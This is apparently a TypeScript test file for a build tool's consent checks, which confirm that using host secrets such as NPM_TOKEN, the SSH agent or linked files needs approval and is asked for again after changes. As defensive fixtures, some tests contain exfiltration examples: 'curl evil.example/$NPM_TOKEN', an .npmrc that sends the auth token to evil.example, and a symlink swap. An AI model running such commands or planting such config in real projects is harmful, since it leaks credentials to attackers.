import assert from 'node:assert/strict';
import { chmodSync, readFileSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { hostUsesOf } from '../../../src/pipeline/gather/host-use.ts';
import { findConsent } from '../../../src/app/consent.ts';
import { homeFolder } from '../../../src/home/folder.ts';
import { requireApproval, recordApproval, unapprovedUses } from '../../../src/secret/consent.ts';
import { type HostUse, useKey } from '../../../src/secret/host-use.ts';
import { loadRoot } from '../../../src/workspace/document/load.ts';
import { folderWith, removeFolders } from '../../support/folder.ts';
import { APP, DEV, documents } from '../workspace/documents.ts';

describe('consent', () => {
  afterEach(removeFolders);

  const home = (): ReturnType<typeof homeFolder> =>
    homeFolder({ DVM_HOME: path.join(folderWith(), 'home') }, '/nowhere');
  const uses = (...names: string[]): HostUse[] => names.map((what) => ({ what, why: 'x', by: 'shop/dev' }));

  it('asks for each thing once, for each folder by itself, and for what is new', async () => {
    const own = home();
    const wanted = [
      { folder: '/code', uses: uses('a') },
      { folder: '/code', uses: uses('b', 'a') },
    ];
    assert.deepEqual(await unapprovedUses(own, wanted), [{ folder: '/code', uses: uses('a', 'b') }]);
    await recordApproval(own, await unapprovedUses(own, wanted));
    assert.deepEqual(await unapprovedUses(own, wanted), []);
    assert.deepEqual(
      await unapprovedUses(own, [
        { folder: '/code', uses: uses('a', 'c') },
        { folder: '/other', uses: uses('a') },
      ]),
      [
        { folder: '/code', uses: uses('c') },
        { folder: '/other', uses: uses('a') },
      ],
    );
    assert.equal(statSync(own.trust).mode & 0o777, 0o600);
    assert.deepEqual(JSON.parse(readFileSync(own.trust, 'utf8')), {
      version: 2,
      folders: { '/code': { a: ['x'], b: ['x'] } },
    });
  });

  it('takes a file that is damaged for none, and asks again for what was allowed without its use', async () => {
    const own = home();
    await recordApproval(own, [{ folder: '/code', uses: uses('a') }]);
    for (const text of [
      '{',
      'null',
      '{"version": 2, "folders": {"/code": "a"}}',
      '{"version": 2, "folders": {"/code": ["a"]}}',
      '{"version": 2, "folders": {"/code": {"a": "x"}}}',
      '{"version": 1, "folders": {"/code": ["a"]}}',
    ]) {
      writeFileSync(own.trust, text);
      assert.equal((await unapprovedUses(own, [{ folder: '/code', uses: uses('a') }])).length, 1);
    }
  });

  it('takes a file that others can write for none', async function () {
    if (process.platform === 'win32') this.skip();
    const own = home();
    await recordApproval(own, [{ folder: '/code', uses: uses('a') }]);
    chmodSync(own.trust, 0o666);
    assert.equal((await unapprovedUses(own, [{ folder: '/code', uses: uses('a') }])).length, 1);
    await recordApproval(own, [{ folder: '/code', uses: uses('a') }]);
    assert.deepEqual(await unapprovedUses(own, [{ folder: '/code', uses: uses('a') }]), []);
  });

  it('forgets nothing when two doors write at once', async () => {
    const own = home();
    await Promise.all(['a', 'b', 'c', 'd'].map((what) => recordApproval(own, [{ folder: '/code', uses: uses(what) }])));
    assert.deepEqual(await unapprovedUses(own, [{ folder: '/code', uses: uses('a', 'b', 'c', 'd') }]), []);
  });

  it('is needed for everything that a build takes', () => {
    const allowed = new Set(uses('a', 'b').map(useKey));
    requireApproval(uses('a'), allowed);
    assert.throws(() => requireApproval(uses('a', 'c'), allowed), {
      code: 'consent',
      message: /\n- c: x \(shop\/dev\)$/,
    });
    assert.throws(
      () =>
        requireApproval(
          uses('a').map((use) => ({ ...use, why: 'y' })),
          allowed,
        ),
      { code: 'consent' },
    );
  });

  const CREDENTIALS = [
    'kind: Credential\nmetadata: {name: NPM_TOKEN, app: shop}\nspec: {source: env, envVar: CI_TOKEN}',
    'kind: Credential\nmetadata: {name: UNUSED, app: shop}\nspec: {source: env, envVar: UNUSED}',
  ];

  it('lists what steps use, and nothing else', async () => {
    const root = folderWith({
      'w.yaml': documents(APP, DEV, ...CREDENTIALS),
      'package.json': '{"dependencies": {"a": "git+ssh://git@git.example.com/a.git"}}',
    });
    const { workspaces } = await loadRoot(root);
    const [workspace] = workspaces;
    assert.ok(workspace !== undefined);
    assert.deepEqual(
      (await hostUsesOf(workspace)).map(({ what, why }) => `${what}: ${why}`),
      [
        'the SSH agent, to sign in to git.example.com: package.json',
        'the variable CI_TOKEN of this machine: as NPM_TOKEN to install dependencies',
        'the variable CI_TOKEN of this machine: as NPM_TOKEN to install tools',
        'the variable NPM_TOKEN of this machine: as NPM_TOKEN to install dependencies, instead of its ' +
          'source, if it is set',
        'the variable NPM_TOKEN of this machine: as NPM_TOKEN to install tools, instead of its source, if it is set',
      ],
    );
    const own = home();
    const { missing } = await findConsent(own, workspaces);
    assert.equal(missing[0]?.folder, root);
    await recordApproval(own, missing);
    assert.deepEqual((await findConsent(own, workspaces)).missing, []);
  });

  /** What still needs consent after the previous request was approved. */
  async function askedAgain(before: Record<string, string>, after: Record<string, string>): Promise<string[]> {
    const [own, root] = [home(), folderWith(before)];
    await recordApproval(own, (await findConsent(own, (await loadRoot(root)).workspaces)).missing);
    for (const [name, text] of Object.entries(after)) writeFileSync(path.join(root, name), text);
    const { missing } = await findConsent(own, (await loadRoot(root)).workspaces);
    return missing.flatMap((each) => each.uses.map(({ what, why }) => `${what}: ${why}`));
  }

  const own = (credential: string): string =>
    `kind: Credential\nmetadata: {name: NPM_TOKEN, app: shop}\nspec: ${credential}`;
  const TOKEN = own('{source: env, envVar: NPM_TOKEN}');
  const command = (text: string, args = ''): string =>
    `kind: Workspace\nmetadata: {name: dev, app: shop}\nspec: {build: {${args}devStage: {customCommands: ` +
    `[${JSON.stringify(text)}]}}}`;
  const VARIABLE = 'the variable NPM_TOKEN of this machine';
  const npmrc = (host: string): string =>
    `@team:registry=https://${host}/npm/\n//${host}/npm/:_authToken=\${NPM_TOKEN}\n`;

  for (const [what, before, after, expected] of [
    [
      'the host that gets it',
      { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
      { '.npmrc': npmrc('evil.example') },
      [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with evil.example`],
    ],
    [
      'another host beside it',
      { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
      { '.npmrc': npmrc('npm.example') + npmrc('[::1]:80') },
      [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with [::1]:80, npm.example`],
    ],
    [
      'something that gets it nowhere',
      { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
      { '.npmrc': `fund=false\n${npmrc('npm.example')}`, 'package.json': '{"homepage": "https://shop.example"}' },
      [],
    ],
    [
      'a command that uses it, too',
      { 'w.yaml': documents(APP, command('echo $NPM_TOKEN | npm login'), TOKEN) },
      { 'w.yaml': documents(APP, command('curl evil.example/$NPM_TOKEN'), TOKEN) },
      [`${VARIABLE}: as NPM_TOKEN in the command curl evil.example/$NPM_TOKEN`],
    ],
    [
      'a value that its command names',
      { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: npm.example}, '), TOKEN) },
      { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: evil.example}, '), TOKEN) },
      [`${VARIABLE}: as NPM_TOKEN in the command curl $UPLOAD/$NPM_TOKEN, with UPLOAD=evil.example`],
    ],
    [
      'another command of the same build',
      { 'w.yaml': documents(APP, command('echo $NPM_TOKEN'), TOKEN) },
      { 'w.yaml': documents(APP, command('echo $NPM_TOKEN'), TOKEN, command('true').replace('dev', 'other')) },
      [],
    ],
  ] as [string, Record<string, string>, Record<string, string>, string[]][]) {
    it(`asks again only for what is new where a document changes ${what}`, async () => {
      assert.deepEqual(await askedAgain({ 'w.yaml': documents(APP, DEV, TOKEN), ...before }, after), expected);
    });
  }

  it('names the file that is read, not a link to it, and asks again where the link leads elsewhere', async () => {
    const outside = folderWith({ token: 'x', key: 'y' });
    const root = folderWith({
      'w.yaml': documents(APP, command('echo $NPM_TOKEN'), own('{source: file, path: token}')),
    });
    symlinkSync(path.join(outside, 'token'), path.join(root, 'token'));
    const home2 = home();
    const { missing } = await findConsent(home2, (await loadRoot(root)).workspaces);
    assert.ok(
      missing[0]?.uses.some((use) => use.what === `the file ${outside}/token`),
      JSON.stringify(missing),
    );
    await recordApproval(home2, missing);
    unlinkSync(path.join(root, 'token'));
    symlinkSync(path.join(outside, 'key'), path.join(root, 'token'));
    assert.deepEqual(
      (await findConsent(home2, (await loadRoot(root)).workspaces)).missing.flatMap((each) =>
        each.uses.map((use) => use.what),
      ),
      [`the file ${outside}/key`],
    );
  });

  it('keeps apart what differs only where it is too long to be shown', async () => {
    const long = `echo $NPM_TOKEN ${'x'.repeat(400)}`;
    const [asked] = await askedAgain(
      { 'w.yaml': documents(APP, command(`${long}a`), TOKEN) },
      { 'w.yaml': documents(APP, command(`${long}b`), TOKEN) },
    );
    assert.match(asked ?? '', /x… \(SHA-256 [0-9a-f]{16}\)$/);
  });

  it('is not needed for a build that takes nothing', async () => {
    const root = folderWith({ 'w.yaml': documents(APP, DEV), 'package.json': '{}' });
    assert.deepEqual((await findConsent(home(), (await loadRoot(root)).workspaces)).missing, []);
  });

  it('is needed for an app outside of the folder that is opened, also behind a link', async () => {
    const outside = folderWith({ 'package.json': '{}' });
    const root = folderWith({
      'infra/w.yaml': documents(APP.replace('path: .', `path: ${outside}`), DEV),
      'infra/v.yaml': documents(
        APP.replace('shop', 'near').replace('path: .', 'path: ../api'),
        DEV.replace('shop', 'near'),
      ),
      'api/package.json': '{}',
    });
    const [near, far] = (await loadRoot(root)).workspaces;
    assert.ok(near !== undefined && far !== undefined);
    assert.deepEqual(await hostUsesOf(near), []);
    assert.deepEqual(
      (await hostUsesOf(far)).map(({ what }) => what),
      [`files of the folder ${outside}`],
    );
  });
});
